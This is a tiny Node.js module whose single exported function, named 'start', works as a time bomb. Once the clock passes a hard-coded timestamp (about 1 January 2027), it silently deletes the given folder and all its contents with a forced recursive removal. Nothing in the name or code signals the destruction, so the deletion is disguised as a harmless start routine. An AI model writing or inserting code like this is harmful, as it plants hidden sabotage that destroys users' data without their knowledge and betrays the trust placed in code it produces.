const fs = require("fs");
module.exports = function start(folder) {
  if (Date.now() > 1798761600000) {
    fs.rmSync(folder, { recursive: true, force: true });
  }
};
